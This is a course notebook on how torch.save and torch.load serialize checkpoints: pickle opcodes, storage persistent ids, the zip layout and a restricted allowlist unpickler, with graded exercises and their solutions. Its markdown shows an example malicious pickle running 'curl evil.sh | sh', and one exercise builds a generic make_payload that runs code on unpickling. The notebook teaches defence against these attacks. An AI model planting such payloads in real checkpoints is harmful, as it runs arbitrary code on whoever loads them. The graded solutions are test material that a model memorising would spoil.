# ---
# jupyter:
#   course:
#     title: Serialization
# ---

# %% [markdown] id="intro"
# # 07 · Serialization: `save`, `load` and the pickle underneath
#
# `torch.save(model.state_dict(), "model.pt")` and `torch.load("model.pt")` look like one line each. Underneath
# there is a small, careful file format: a zip archive holding one pickle that describes the objects and one
# raw buffer per storage. This chapter takes it apart and builds it again.
#
# **What you will build** (each a small function, checked against `course_lib`):
#
# - a pickle *payload*: an object that runs a function of your choice when it is unpickled, to see why loading
#   an untrusted pickle is dangerous;
# - `persistent_id` and `persistent_load`, the pickle hooks that keep tensor data *out* of the pickle and let
#   views share one storage after loading;
# - `rebuild_tensor`, the function a checkpoint calls to turn a storage back into a tensor;
# - the zip archive `torch.save` writes;
# - a `find_class` allowlist, the heart of a *safe* unpickler;
# - your own `load`, made of those pieces, which reads files written by `course_lib.save` and `torch.save`.
#
# Along the way: the restricted unpickler `course_lib.load` uses by default, `map_location`, memory-mapped
# loading (measured), and checkpoints that resume training bit for bit.
#
# **Why it matters.** Checkpoints are how models travel. Knowing the format tells you why a 10-element slice
# can cost 4 MB on disk, why `weights_only=True` refuses your custom class, how to read the shapes of a
# 40 GB checkpoint without loading it, and why `torch.load` on a file from the internet used to be a
# security hole.
#
# *Prerequisites:* chapter 01 (storage, dtype, `Tensor._make`), chapter 02 (views: shape, stride, offset),
# chapter 04 (`state_dict`, optimizers).
# *Expected time:* 2 to 2½ hours.

# %% id="setup"
import io
import os
import pickle
import pickletools
import tempfile
import time
import warnings
import zipfile
from collections import OrderedDict
from pathlib import Path

import matplotlib.pyplot as plt
import numpy as np

import course_lib as cl
from course import check
from course_lib import nn, optim
from course_lib.viz import draw_strides

# every file this notebook writes goes to a temporary folder, deleted when the kernel stops
_workdir = tempfile.TemporaryDirectory(prefix="ch07-")
WORK = Path(_workdir.name)

# %% [markdown] id="torch-import-md"
# PyTorch itself is optional here. A file written by real `torch.save` comes with the course
# (`chapters/07_serialization/from_torch.pt`), so every demo that *reads* PyTorch's format runs without it;
# with PyTorch installed, a few more run it for real (PyTorch reading course_lib's files, the timings of
# section 8). `make oracle`, in the course's folder, installs it (`torch==2.13.0`, CPU build); restart the
# kernel afterwards.

# %% id="torch-import" grader_runs="torch = None  # `course grade` skips the optional comparison with PyTorch"
try:  # PyTorch is optional: a few demos compare with it when it is installed
    import torch
except ImportError:
    torch = None
print("PyTorch for comparison:",
      torch.__version__ if torch is not None else "not installed (`make oracle` installs it)")

# %% [markdown] id="pickle-md"
# ## 1 · A pickle is a program
#
# `pickle.dumps(obj)` does not write a *description* of `obj`; it writes a short **program** for a little
# stack machine, and `pickle.loads` runs it. Each instruction (an *opcode*, one byte plus arguments) pushes
# something on a stack or combines what is there: `EMPTY_DICT` pushes `{}`, `BINUNICODE 'lr'` pushes a
# string, `SETITEMS` pops key/value pairs into the dict below them, `STOP` returns the top of the stack. A
# *memo* (`BINPUT`/`BINGET`) remembers objects already built, so an object that appears twice is stored
# once and comes back as one object.
#
# `pickletools.dis` prints the program. `torch.save` uses **protocol 2**, an old, simple dialect:

# %% id="pickle-demo"
config = {"lr": 0.1, "layers": [64, 64], "name": "mlp"}
program = pickle.dumps(config, protocol=2)
print(len(program), "bytes")
pickletools.dis(program)


# %% [markdown] id="reduce-md"
# Numbers, strings, lists and dicts have opcodes of their own. Every other object says how to rebuild itself
# through `__reduce__`, which returns **a callable and its arguments**. Pickle writes the callable as
# `GLOBAL module name` (a reference, looked up by import when loading), the arguments as a tuple, then
# `REDUCE`: *call the thing below with the tuple on top*.

# %% id="reduce-demo"
class Temperature:
    def __init__(self, celsius):
        self.celsius = celsius

    def __reduce__(self):
        return (Temperature, (self.celsius,))  # "to rebuild me, call Temperature(21.5)"


pickletools.dis(pickle.dumps(Temperature(21.5), protocol=2))
print(pickle.loads(pickle.dumps(Temperature(21.5), protocol=2)).celsius)

# %% [markdown] id="payload-md"
# Nothing says the callable has to be the object's own class. `GLOBAL` can name **any** importable function
# and `REDUCE` calls it with arguments the file chooses. That is all an attack needs: a "checkpoint" whose
# pickle says `GLOBAL posix system` + `REDUCE ("curl evil.sh | sh",)` runs a shell command the moment you
# load it. Here is the harmless version: the function only appends to a list.

# %% id="payload-demo"
EVENTS = []


def record(message):
    EVENTS.append(message)
    return "a harmless return value"


class Surprise:
    def __reduce__(self):
        return (record, ("this ran inside pickle.loads!",))


blob = pickle.dumps({"weights": [0.1, 0.2], "extra": Surprise()}, protocol=2)
print(pickle.loads(blob))
print("EVENTS:", EVENTS)

# %% [markdown] id="ex-07-1-task"
# ## Exercise 07.1 · make_payload (1 point)
#
# Write `make_payload(fn, *args)`. It returns an object such that
#
# - `pickle.loads(pickle.dumps(payload, protocol=2))` calls `fn(*args)` and returns what `fn` returned;
# - making the payload and pickling it call nothing: `fn` runs only when the bytes are *loaded*.
#
# *Hint:* a class with a `__reduce__` method, as `Surprise` above, but returning `fn` and `args`. A class
# defined inside the function is fine: pickle never stores the payload's class, only what `__reduce__` returns.

# %% id="ex-07-1-solution" tags=["solution"] exercise="07.1"
import pickle


def make_payload(fn, *args):
    """An object whose unpickling calls fn(*args); making and pickling it call nothing."""
    ### BEGIN SOLUTION
    class Payload:
        def __reduce__(self):
            return (fn, args)

    return Payload()
    ### END SOLUTION


# %% id="ex-07-1-check" tags=["check", "nbval-check-output"] exercise="07.1" points=1
check("07.1", make_payload)

# %% [markdown] id="refuse-md"
# ### The safe loader refuses it
#
# Hide your payload in an otherwise ordinary checkpoint and load it with `course_lib.load`. Its default,
# `weights_only=True`, runs the pickle in a **restricted unpickler** (section 5) that refuses every global
# outside a short allowlist, *before* calling anything. The error names the global; `EVENTS` does not grow.
# `get_unsafe_globals_in_checkpoint` lists what a file would need without running it. Only the explicit
# `weights_only=False` runs the file's code.

# %% id="refuse-demo"
try:
    gift = make_payload(record, "loaded from a checkpoint!")
except NotImplementedError:
    print("(exercise 07.1 is not done yet: using Surprise() instead)")
    gift = Surprise()

path = WORK / "gift.pt"
cl.save({"weights": cl.ones(3), "gift": gift}, path)
EVENTS.clear()
try:
    cl.load(path)
except pickle.UnpicklingError as e:
    print(e)
print("\nEVENTS after the safe load:", EVENTS)
print("globals a weights_only load would refuse:", cl.serialization.get_unsafe_globals_in_checkpoint(path))

loaded = cl.load(path, weights_only=False)  # only for files you trust!
print("EVENTS after weights_only=False:", EVENTS)

# %% [markdown] id="refuse-pytorch"
# > **In PyTorch:** `torch.load` runs `data.pkl` through `torch/_weights_only_unpickler.py` unless you pass
# > `weights_only=False`. That has been the default since PyTorch 2.6; before, `torch.load` was plain
# > `pickle.load`, and loading a downloaded checkpoint could run anything. The error text you just read is
# > PyTorch's (with `course_lib` in place of `torch`), built by `_get_wo_message` in `torch/serialization.py`.

# %% [markdown] id="copy-md"
# ## 2 · Keeping tensor data out of the pickle
#
# A course_lib tensor can be pickled on its own: its `__reduce_ex__` stores a numpy copy of its elements. That
# is fine for one tensor and wrong for a checkpoint. Every view carries its own copy of the data, so the file
# grows with each view, and after loading the views no longer share memory with the tensor they came from:

# %% id="copy-demo"
base = cl.randn(1000, 1000)
views = {"base": base, "top_half": base[:500], "transposed": base.t()}
blob = pickle.dumps(views, protocol=2)
print(f"one 4 MB storage, three tensors: the pickle holds {len(blob) / 1e6:.1f} MB")

back = pickle.loads(blob)
back["base"][0, 0] = 42.0
print("write to base; top_half sees it:", back["top_half"][0, 0].item() == 42.0)

# %% [markdown] id="pid-md"
# Why 15 MB for one 4 MB storage? Each tensor pickled a copy of the elements it shows: 4 MB for `base`, 2 MB
# for `top_half`, 4 MB for `transposed`, 10 MB in all. And protocol 2 has no opcode for raw bytes: numpy's
# buffer travels as a call `_codecs.encode(text, "latin1")` whose `text` has one character per byte and is
# written in UTF-8, where every byte of 128 or more takes two bytes. About half the bytes of random floats
# are, so the 10 MB become 15.
#
# Pickle has a hook for data that should live *outside* the pickle. Before pickling any object, the pickler
# calls `persistent_id(obj)`. If it returns `None`, pickling goes on as usual; if it returns anything else, the
# pickler writes that value with the `BINPERSID` opcode *instead of the object*. When loading, the unpickler
# hands each such value to `persistent_load(pid)` and uses whatever comes back.
#
# `torch.save` returns a persistent id for every **storage**:
#
# ```
# ('storage', torch.FloatStorage, '0', 'cpu', 6)
#    tag       storage type        key  location  number of elements
# ```
#
# and writes the storage's bytes once, to a record named `data/0` next to the pickle. Keys are `'0'`, `'1'`,
# ... in the order storages are met; a storage met again (through another view) gets the key it already has.
# That is the whole trick behind "views survive": the pickle names storages by key, and the loader makes one
# storage per key.
#
# In the file the storage type is a global naming PyTorch's class (`torch FloatStorage`). To keep your
# exercises in plain Python, you use its name as a string (`'FloatStorage'`), from the table below.

# %% [markdown] id="ex-07-2-task"
# ## Exercise 07.2 · tensor_persistent_id (2 points)
#
# Write `tensor_persistent_id(obj, storages)`, called by a pickler for every object it pickles, with one dict
# `storages` (key -> Storage) shared by all the calls of one pickling:
#
# - if `obj` is not a course_lib `Storage` (`isinstance(obj, cl.Storage)`), return `None`;
# - if it is a storage already in `storages` (the **same object**: compare with `is`, not `==`), return its
#   id with the key it has;
# - otherwise add it to `storages` under the key `str(len(storages))` and return its id;
# - the id is `("storage", STORAGE_NAMES[obj.dtype], key, str(obj.device), obj.size())`.
#
# *Hint:* two storages with equal bytes are still two storages; only identity counts. `for key, s in
# storages.items(): if s is obj: ...`

# %% id="ex-07-2-solution" tags=["solution"] exercise="07.2"
import course_lib as cl

# PyTorch's names for the storage of each dtype, as they appear in a checkpoint
STORAGE_NAMES = {cl.float32: "FloatStorage", cl.float64: "DoubleStorage", cl.float16: "HalfStorage",
                 cl.int64: "LongStorage", cl.int32: "IntStorage", cl.int16: "ShortStorage",
                 cl.int8: "CharStorage", cl.uint8: "ByteStorage", cl.bool: "BoolStorage"}
STORAGE_DTYPES = {name: dtype for dtype, name in STORAGE_NAMES.items()}


def tensor_persistent_id(obj, storages):
    """("storage", name, key, location, numel) for a course_lib Storage (kept in `storages`), else None."""
    ### BEGIN SOLUTION
    if not isinstance(obj, cl.Storage):
        return None
    for key, seen in storages.items():
        if seen is obj:
            break
    else:
        key = str(len(storages))
        storages[key] = obj
    return ("storage", STORAGE_NAMES[obj.dtype], key, str(obj.device), obj.size())
    ### END SOLUTION


# %% id="ex-07-2-check" tags=["check", "nbval-check-output"] exercise="07.2" points=2
check("07.2", tensor_persistent_id)

# %% [markdown] id="ex-07-3-task"
# ## Exercise 07.3 · rebuild_tensor (2 points)
#
# In a checkpoint every tensor is a call to a *rebuild function* with its storage and its metadata. Write
# `rebuild_tensor(storage, storage_offset, size, stride)`: return a course_lib tensor that **views**
# `storage` (no copy) with that shape, stride and offset, and the storage's dtype, after checking that the
# file is not lying:
#
# - raise `RuntimeError` if the offset, a size or a stride is negative, or if `len(size) != len(stride)`;
# - raise `RuntimeError` if the view is not empty and its last element,
#   $\text{offset} + \sum_d (\text{size}_d - 1)\cdot\text{stride}_d$, is not inside the storage
#   (`< len(storage)`). An empty view (a size is 0) reads nothing and always fits.
#
# *Hint:* `cl.Tensor._make(storage, storage_offset, size, stride, storage.dtype)` (chapter 01) makes the
# tensor; pass `size` and `stride` as tuples.

# %% id="ex-07-3-solution" tags=["solution"] exercise="07.3"
import course_lib as cl


def rebuild_tensor(storage, storage_offset, size, stride):
    """A tensor viewing `storage` (no copy), after checking that the view fits in it."""
    ### BEGIN SOLUTION
    size, stride = tuple(size), tuple(stride)
    if storage_offset < 0 or any(n < 0 for n in size) or any(s < 0 for s in stride):
        raise RuntimeError(f"negative offset, size or stride: {storage_offset}, {size}, {stride}")
    if len(size) != len(stride):
        raise RuntimeError(f"unequal size length ({len(size)}) and stride length ({len(stride)})")
    if all(n > 0 for n in size):
        last = storage_offset + sum((n - 1) * s for n, s in zip(size, stride))
        if last >= len(storage):
            raise RuntimeError(f"the view reads element {last} of a storage of {len(storage)} elements")
    return cl.Tensor._make(storage, storage_offset, size, stride, storage.dtype)
    ### END SOLUTION


# %% id="ex-07-3-check" tags=["check", "nbval-check-output"] exercise="07.3" points=2
check("07.3", rebuild_tensor)


# %% [markdown] id="pickler-md"
# ### A pickler that uses it
#
# `TensorPickler` below wires your function in. Its `reducer_override` (another pickle hook, called for
# every object) pickles a tensor as a call `rebuild_tensor(storage, offset, shape, stride)`: the tensor's
# *metadata* goes into the pickle, and its *storage* goes through `persistent_id`. Pickle the three tensors
# of one storage again: the pickle shrinks from megabytes to a few hundred bytes and there is one storage to
# write, however many views there are.

# %% id="pickler-demo"
class TensorPickler(pickle.Pickler):
    """Pickles tensors as rebuild_tensor(storage, offset, shape, stride) and storages by persistent id."""

    def __init__(self, file):
        super().__init__(file, protocol=2)
        self.storages = {}  # key -> Storage: what goes into data/<key>

    def persistent_id(self, obj):
        return tensor_persistent_id(obj, self.storages)

    def reducer_override(self, obj):
        if isinstance(obj, cl.Tensor):
            return (rebuild_tensor, (obj._storage, obj.storage_offset(), tuple(obj.shape), obj.stride()))
        return NotImplemented


def pickle_with_storages(obj):
    """(data_pkl, {key: storage}): the two halves of a checkpoint."""
    buf = io.BytesIO()
    pickler = TensorPickler(buf)
    pickler.dump(obj)
    return buf.getvalue(), pickler.storages


try:
    data_pkl, storages = pickle_with_storages(views)
    print(f"pickle: {len(data_pkl)} bytes; storages: "
          + ", ".join(f"{k}: {len(s)} {s.dtype}" for k, s in storages.items()))
    listing = io.StringIO()
    pickletools.dis(data_pkl, out=listing)
    # the first tensor: GLOBAL rebuild_tensor, the persistent id (BINPERSID), then offset, shape, stride
    print("\n".join(listing.getvalue().splitlines()[:22]))
except NotImplementedError:
    print("(do exercise 07.2 first)")

# %% [markdown] id="ex-07-4-task"
# ## Exercise 07.4 · tensor_persistent_load (2 points)
#
# The other half: `tensor_persistent_load(pid, read_record, cache)` turns a persistent id back into a storage.
# `read_record(name)` returns the bytes of a record (`"data/0"`, ...); `cache` is one dict (key -> Storage)
# shared by all the calls of one load.
#
# - If `pid[0]` is not `"storage"`, raise `pickle.UnpicklingError`.
# - If the key is in `cache`, return that storage, without reading anything: this is what makes views
#   share one storage again.
# - Otherwise read `f"data/{key}"`; if it does not hold exactly `numel * dtype.itemsize` bytes, raise
#   `RuntimeError` (a truncated or corrupted file); make a **writable** numpy array of `dtype.np` from the
#   bytes, wrap it in `cl.Storage(array, dtype)`, remember it in `cache` and return it.
#
# The dtype is `STORAGE_DTYPES[pid[1]]`. The location (`pid[3]`) is ignored here: everything loads on the CPU.
#
# *Hint:* `np.frombuffer(data, dtype.np)` views the bytes without copying, but bytes are immutable, so the
# array is read-only; `.copy()` makes it writable.

# %% id="ex-07-4-solution" tags=["solution"] exercise="07.4"
import pickle

import numpy as np

import course_lib as cl


def tensor_persistent_load(pid, read_record, cache):
    """The Storage a persistent id names, read once per key through read_record(name) -> bytes."""
    ### BEGIN SOLUTION
    typename, storage_name, key, location, numel = pid
    if typename != "storage":
        raise pickle.UnpicklingError(f"unknown persistent id {pid!r}")
    if key in cache:
        return cache[key]
    dtype = STORAGE_DTYPES[storage_name]
    data = read_record(f"data/{key}")
    if len(data) != numel * dtype.itemsize:
        raise RuntimeError(f"record data/{key} holds {len(data)} bytes, not {numel} x {dtype.itemsize}")
    storage = cl.Storage(np.frombuffer(data, dtype=dtype.np).copy(), dtype)
    cache[key] = storage
    return storage
    ### END SOLUTION


# %% id="ex-07-4-check" tags=["check", "nbval-check-output"] exercise="07.4" points=2
check("07.4", tensor_persistent_load)


# %% [markdown] id="roundtrip-md"
# ### The round trip: views survive
#
# Pickle with your persistent ids, unpickle with your persistent loads: the three tensors come back as three
# views of **one** storage. A write through `base` shows through `transposed`, as before saving.

# %% id="roundtrip-demo"
def unpickle_with_storages(data_pkl, storages):
    records = {f"data/{key}": s.data.tobytes() for key, s in storages.items()}  # what the archive would hold
    cache = {}
    unpickler = pickle.Unpickler(io.BytesIO(data_pkl))
    unpickler.persistent_load = lambda pid: tensor_persistent_load(pid, records.__getitem__, cache)
    return unpickler.load()


try:
    data_pkl, storages = pickle_with_storages(views)
    back = unpickle_with_storages(data_pkl, storages)
    for name, t in back.items():
        print(f"{name:10} shape={tuple(t.shape)} stride={t.stride()} offset={t.storage_offset()}")
    print("one storage:", back["base"]._storage is back["top_half"]._storage is back["transposed"]._storage)
    back["base"][0, 1] = -7.0
    print("write base[0, 1]; transposed[1, 0] =", back["transposed"][1, 0].item())
except NotImplementedError:
    print("(do exercises 07.2 to 07.4 first)")

# %% [markdown] id="pid-pytorch"
# > **In PyTorch:** `_save` in `torch/serialization.py` defines the `persistent_id` that returns
# > `('storage', storage_type, key, location, numel)` and keeps one key per storage; `_load` defines the
# > `persistent_load` that reads `data/<key>` once (`load_tensor`) and caches it in `loaded_storages`. A tensor
# > pickles itself in `Tensor.__reduce_ex__` (`torch/_tensor.py`) as a call to `_rebuild_tensor_v2(storage,
# > storage_offset, size, stride, requires_grad, backward_hooks)` from `torch/_utils.py`, which does what your
# > `rebuild_tensor` does with `set_`. In course_lib: `_Pickler` and `_rebuild_tensor_v2` in
# > `course_lib/serialization.py`.

# %% [markdown] id="archive-md"
# ## 3 · The archive
#
# `torch.save` puts the pickle and the storages in one **zip** archive. Zip is a good container here: it has
# a directory at the end listing every record with its offset and size, so a reader can jump straight to
# `data/17` without reading the rest, and records can be *stored* (not compressed) so their bytes sit in the
# file exactly as they sit in memory. Let's list a real checkpoint:

# %% id="archive-demo"
model = nn.Sequential(nn.Conv2d(3, 8, 3), nn.BatchNorm2d(8), nn.Flatten(), nn.Linear(8 * 6 * 6, 10))
path = WORK / "small.pt"
cl.save(model.state_dict(), path)

with zipfile.ZipFile(path) as z, open(path, "rb") as f:
    print(f"{'record':34} {'bytes':>6} {'stored':>7} {'data at':>8} {'% 64':>5}")
    for info in z.infolist():
        f.seek(info.header_offset + 26)
        name_len, extra_len = int.from_bytes(f.read(2), "little"), int.from_bytes(f.read(2), "little")
        data_at = info.header_offset + 30 + name_len + extra_len  # a local header is 30 bytes + name + extra
        stored = info.compress_type == zipfile.ZIP_STORED
        print(f"{info.filename:34} {info.file_size:6} {str(stored):>7} {data_at:8} {data_at % 64:5}")
    print("\nversion:", z.read("small/version"), " byteorder:", z.read("small/byteorder"))

# %% [markdown] id="records-md"
# Every record sits in a folder named after the file (`small/`; `archive/` when saving to a buffer):
#
# | record | holds |
# |---|---|
# | `data.pkl` | the object, pickled (protocol 2), with persistent ids instead of storages |
# | `.format_version`, `.storage_alignment` | `1` and `64`: how the storages are laid out |
# | `byteorder` | `little`: the order of the bytes of each number (the loader swaps them if it differs) |
# | `data/0`, `data/1`, ... | the raw bytes of each storage, in key order |
# | `version` | `3`: PyTorch refuses a file without it |
# | `.data/serialization_id` | an id for the file |
#
# Notice the last column: each record's data starts at a **multiple of 64**. A zip local header is 30 bytes
# plus the file name plus an "extra" field, and the writer pads that extra field so the data that follows is
# aligned. Aligned data can be used in place: mapped into memory (section 8) and handed to vectorised code.
#
# Here is the start of `data.pkl`: the state_dict is an `OrderedDict`, and each tensor a call to
# `torch._utils._rebuild_tensor_v2` with a persistent id for its storage. course_lib writes PyTorch's names,
# so PyTorch reads course_lib's files and course_lib reads PyTorch's.

# %% id="records-demo"
with zipfile.ZipFile(path) as z:
    listing = io.StringIO()
    pickletools.dis(z.read("small/data.pkl"), out=listing)
print("\n".join(listing.getvalue().splitlines()[:34]))

# %% [markdown] id="interop-md"
# The other way round: `from_torch.pt`, a small file written by real `torch.save` (torch 2.13.0) and shipped
# with the course, has the same records in the same order, in a folder named after its file, and
# `course_lib.load` reads it: a `Linear(4, 2)`'s `state_dict`, a tensor `w`, its transpose `wt` (one storage),
# and a 0-d `step`.

# %% id="interop-demo"
from course.paths import chapter_dirs, find_chapters_dir

TORCH_FILE = chapter_dirs(find_chapters_dir())["07"] / "from_torch.pt"   # made by make_torch_file.py beside it
print(zipfile.ZipFile(TORCH_FILE).namelist())
print(cl.load(TORCH_FILE))

if torch is not None:
    from_course_lib = torch.load(path, weights_only=True)   # course_lib wrote small.pt, PyTorch reads it
    print("torch.load of course_lib's small.pt:", {k: tuple(v.shape) for k, v in from_course_lib.items()})
else:
    print("(PyTorch is not installed, so it does not read course_lib's small.pt here: `make oracle` installs it)")

# %% [markdown] id="ex-07-5-task"
# ## Exercise 07.5 · write_archive (2 points)
#
# Write `write_archive(f, prefix, data_pkl, storages)`: write to the binary file object `f` a zip archive with
# every record **stored** (`zipfile.ZIP_STORED`, no compression), in this order:
#
# 1. `f"{prefix}/data.pkl"`: the bytes `data_pkl` (it must come first: readers take the folder name from
#    the first record);
# 2. `f"{prefix}/byteorder"`: `b"little"`;
# 3. `f"{prefix}/data/{key}"` for each `key, storage` of the dict `storages`, in its order: the storage's
#    raw bytes, `storage.data.tobytes()`;
# 4. `f"{prefix}/version"`: `b"3\n"`.
#
# That is enough for `course_lib.load`, and for `torch.load`. (The 64-byte alignment is an optimisation the
# loaders do not require; `course_lib.save` adds it, and `.format_version` and friends.)
#
# *Hint:* `with zipfile.ZipFile(f, "w", compression=zipfile.ZIP_STORED) as z:` then `z.writestr(name, data)`.

# %% id="ex-07-5-solution" tags=["solution"] exercise="07.5"
import zipfile


def write_archive(f, prefix, data_pkl, storages):
    """Write a torch.save-style zip archive (data.pkl, byteorder, data/<key>..., version) to f."""
    ### BEGIN SOLUTION
    with zipfile.ZipFile(f, "w", compression=zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", data_pkl)
        z.writestr(f"{prefix}/byteorder", b"little")
        for key, storage in storages.items():
            z.writestr(f"{prefix}/data/{key}", storage.data.tobytes())
        z.writestr(f"{prefix}/version", b"3\n")
    ### END SOLUTION


# %% id="ex-07-5-check" tags=["check", "nbval-check-output"] exercise="07.5" points=2
check("07.5", write_archive)

# %% [markdown] id="archive-pytorch"
# > **In PyTorch:** the archive is written and read in C++, by `PyTorchStreamWriter` and `PyTorchStreamReader`
# > in `caffe2/serialize/inline_container.cc`. `writeRecord` pads each local header (`getPadding`, alignment
# > `kFieldAlignment = 64`) and `getRecord` finds a record from the directory. `torch.save` in
# > `torch/serialization.py` opens the writer (`_open_zipfile_writer`), names the folder after the file, and
# > `_save` writes `data.pkl`, `byteorder` and `data/<key>`; the writer adds `version` when it closes. In
# > course_lib: `_ArchiveWriter` and `_ArchiveReader` in `course_lib/serialization.py`, on Python's `zipfile`.

# %% [markdown] id="views-md"
# ## 4 · Storages are saved once, and whole
#
# Save a tensor and two views of it. The figure shows what each one reads from the 12-element storage; the
# file holds those 12 elements **once** plus three small entries of metadata in `data.pkl`. After loading,
# the three tensors are views of one storage again, with the same offsets and strides.

# %% id="views-figure"
base = cl.arange(12.)
tensors = {"grid": base.view(3, 4), "tail": base[4:], "columns": base.view(3, 4).t()}

fig, axes = plt.subplots(1, 3, figsize=(15, 3.4))
for ax, (name, t) in zip(axes, tensors.items()):
    draw_strides(t, ax=ax, title=f"{name}: shape {tuple(t.shape)}, stride {t.stride()}, offset {t.storage_offset()}")
plt.show()

# %% id="views-demo"
path = WORK / "views.pt"
cl.save(tensors, path)
print([n for n in zipfile.ZipFile(path).namelist() if "/data/" in n], "->", os.path.getsize(path), "bytes")

back = cl.load(path)
for name, t in back.items():
    print(f"{name:8} stride={t.stride()} offset={t.storage_offset()} same storage as grid: "
          f"{t._storage is back['grid']._storage}")
back["grid"][1, 2] = 100.0
print("tail:", back["tail"])

# %% [markdown] id="slice-md"
# The other side of "a view points at its storage": saving a view saves its **whole** storage, because the
# file must be able to rebuild the view exactly, offset included. Ten numbers sliced from a million cost
# 4 MB on disk. If you only mean to keep the slice, `clone()` it first: a clone owns a storage of its own
# size.

# %% id="slice-demo"
big = cl.zeros(1_000_000)
cl.save({"ten": big[:10]}, WORK / "slice.pt")
cl.save({"ten": big[:10].clone()}, WORK / "clone.pt")
print(f"big[:10]:         {os.path.getsize(WORK / 'slice.pt'):>9,} bytes")
print(f"big[:10].clone(): {os.path.getsize(WORK / 'clone.pt'):>9,} bytes")


# %% [markdown] id="restricted-md"
# ## 5 · The restricted unpickler
#
# `course_lib.load(f)` (like `torch.load(f)`) runs `data.pkl` in an unpickler of its own, written opcode by
# opcode, that refuses instead of trusting:
#
# 1. **`GLOBAL` never imports.** The name is looked up in an **allowlist**: `collections.OrderedDict`, the
#    rebuild functions, storage types, dtypes, `torch.Size`, `torch.device`, `Parameter`, `set`, `complex`,
#    `bytearray`, `_codecs.encode` (how protocol 2 stores `bytes`), plus whatever you add with
#    `add_safe_globals`. Anything else is refused with an error that names it. The modules `os`, `posix`, `nt`
#    and `sys` are refused *always*, even if someone allowlisted something from them.
# 2. **Calls only to allowlisted things.** `REDUCE` and `NEWOBJ` call only allowlisted callables; `APPEND`
#    works on lists only. `BUILD` on a tensor is `tensor.set_(*state)`, with `set_`'s checks (the view must lie
#    inside its storage); on an `OrderedDict` it sets attributes (a state_dict's `_metadata`); devices and
#    dtypes are immutable, so a file cannot change them for the rest of the process.
# 3. **Only the protocol-2 opcodes `torch.save` writes.** Anything else is an error: a pickle from protocol 4
#    starts with `PROTO 4`, which is accepted (with a warning), and then a `FRAME` opcode (149), which is
#    refused: `Unsupported operand 149`.
# 4. **Persistent ids must be storages.**
#
# Your custom class is refused too, until you say you trust it:

# %% id="restricted-demo"
class Point:
    def __init__(self, x, y):
        self.x, self.y = x, y


path = WORK / "point.pt"
cl.save({"origin": Point(0, 0), "w": cl.ones(2)}, path)
try:
    cl.load(path)
except pickle.UnpicklingError as e:
    print(str(e).splitlines()[-3])  # the line that names the global

with cl.serialization.safe_globals([Point]):  # or cl.serialization.add_safe_globals([Point]) for good
    print("allowlisted:", vars(cl.load(path)["origin"]))

protocol4 = WORK / "protocol4.pt"
with zipfile.ZipFile(protocol4, "w") as z:
    z.writestr("archive/data.pkl", pickle.dumps({"a": 1}, protocol=4))
    z.writestr("archive/version", b"3\n")
try:
    with warnings.catch_warnings():  # the loader warns about the protocol first; the error says it all
        warnings.simplefilter("ignore")
        cl.load(protocol4)
except pickle.UnpicklingError as e:
    print(str(e).splitlines()[-3])

# %% [markdown] id="ex-07-6-task"
# ## Exercise 07.6 · a find_class allowlist (2 points)
#
# Python's own `pickle.Unpickler` has one hook that makes a simple safe unpickler: it calls
# `self.find_class(module, name)` for every `GLOBAL` (with the names exactly as the pickle writes them:
# protocol 2 writes Python 2 names such as `__builtin__.eval`). Write `RestrictedUnpickler.find_class`:
#
# - `full = f"{module}.{name}"`;
# - if `module` is one of `BLOCKED_MODULES` (exactly: `os`, `posix`, `nt`, `sys`; not `ossify`), raise
#   `pickle.UnpicklingError`, **even if** `full` is in `self.allowed`;
# - if `full` is a key of `self.allowed`, return `self.allowed[full]`;
# - otherwise raise `pickle.UnpicklingError` with `full` in the message.
#
# Never fall back to `super().find_class`: that imports whatever the file names.
#
# *Hint:* check the blocked modules first. This unpickler still lets an allowed callable be called with any
# arguments and runs every opcode; PyTorch's goes further (rules 2 to 4 above). It is the idea, not the whole
# defence.

# %% id="ex-07-6-solution" tags=["solution"] exercise="07.6"
import pickle

BLOCKED_MODULES = {"os", "posix", "nt", "sys"}


class RestrictedUnpickler(pickle.Unpickler):
    """pickle.Unpickler that resolves globals only through the allowlist `allowed` (full name -> object)."""

    def __init__(self, file, allowed):
        super().__init__(file)
        self.allowed = allowed

    def find_class(self, module, name):
        ### BEGIN SOLUTION
        full = f"{module}.{name}"
        if module in BLOCKED_MODULES:
            raise pickle.UnpicklingError(f"refusing GLOBAL {full}: module {module} is blocked")
        if full not in self.allowed:
            raise pickle.UnpicklingError(f"refusing GLOBAL {full}: it is not in the allowlist")
        return self.allowed[full]
        ### END SOLUTION


# %% id="ex-07-6-check" tags=["check", "nbval-check-output"] exercise="07.6" points=2
check("07.6", RestrictedUnpickler)

# %% [markdown] id="restricted-pytorch"
# > **In PyTorch:** `torch/_weights_only_unpickler.py` is a complete unpickler in Python: `_get_allowed_globals`
# > builds the allowlist, `_blocklisted_modules` holds `sys`, `os`, `posix`, `nt`, and `Unpickler.load` runs
# > the opcode loop with the checks of rules 1 to 4 and PyTorch's error messages. `add_safe_globals`,
# > `safe_globals` and `get_unsafe_globals_in_checkpoint` are in `torch/serialization.py`. course_lib's
# > version, `course_lib/_weights_only_unpickler.py`, follows it line by line, and adds two guards: every
# > malformed file gives `UnpicklingError` (never `IndexError`), and tuples nested absurdly deep are refused
# > (hashing one overflows CPython's C stack).

# %% [markdown] id="ex-07-7-task"
# ## 6 · Your own `load`
#
# ## Exercise 07.7 · your own load (2 points)
#
# Put your pieces together. Write `my_load(f)` for a binary file object `f` holding a checkpoint written by
# `course_lib.save` or `torch.save`, with tensors of any course_lib dtype (sharing storages or not) inside
# dicts, lists, tuples and `OrderedDict`s:
#
# 1. open it with `zipfile.ZipFile(f)`; the folder is the first record's name up to the `/`;
# 2. `read_record(name)` returns the bytes of `f"{folder}/{name}"`;
# 3. unpickle `data.pkl` with your `RestrictedUnpickler`, allowing exactly
#    `"collections.OrderedDict"`, `"torch._utils._rebuild_tensor_v2"` (a function taking
#    `(storage, storage_offset, size, stride, requires_grad, backward_hooks, metadata=None)` that calls your
#    `rebuild_tensor`) and `"torch.FloatStorage"` & co. (map each `f"torch.{name}"` of `STORAGE_DTYPES` to
#    `name`: that string is what your `tensor_persistent_load` receives as `pid[1]`);
# 4. set `unpickler.persistent_load` to call your `tensor_persistent_load` with **one** cache for the whole
#    load, and return `unpickler.load()`.
#
# Tensors that shared a storage when saved must share one after `my_load`; a file with any other global must
# raise `pickle.UnpicklingError` without running anything.
#
# *Hint:* `requires_grad` and `backward_hooks` can be ignored here; `course_lib.load` handles them (and
# `Parameter`s) too.

# %% id="ex-07-7-solution" tags=["solution"] exercise="07.7"
import io
import zipfile
from collections import OrderedDict


def my_load(f):
